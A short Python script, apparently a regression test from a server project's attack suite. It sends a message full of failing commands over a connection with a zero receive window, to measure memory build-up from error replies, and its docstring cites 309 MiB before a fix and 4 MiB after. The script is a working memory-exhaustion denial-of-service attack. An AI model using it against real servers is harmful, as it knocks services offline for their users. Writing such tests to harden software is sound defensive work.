"""One message with as many commands as fit, that all fail, with errors as long as they get: half a million answers of
400 bytes and more, made before the first is sent; the client takes none.

Cost: 4 MiB a session. Before: 309 MiB of answers for one such message.
"""

import time

import wire
from attack import Attack, Target, run
from sessions import Session, full_message


def fail(*command: tuple[int, bytes]):
    message = full_message(*command, quiet=False)

    def attack(target: Target) -> None:
        connection = target.connect(target.index, window=0, refill=False)
        for _ in range(8):
            session = Session(connection)
            connection.message(session.call, message)
        time.sleep(target.seconds)

    return attack


if __name__ == "__main__":
    long_name = wire.ids(1, 1) + wire.field(3, wire.call("Hardshrink", [wire.tensor("é" * 128)]))
    run(
        Attack(
            [
                fail((wire.QUERY_STREAM, b"")),
                fail((wire.CREATE_EXECUTOR, long_name)),
                fail((wire.FREE, wire.ids((1 << 64) - 1))),
            ],
            rss_mib=300,
        )
    )
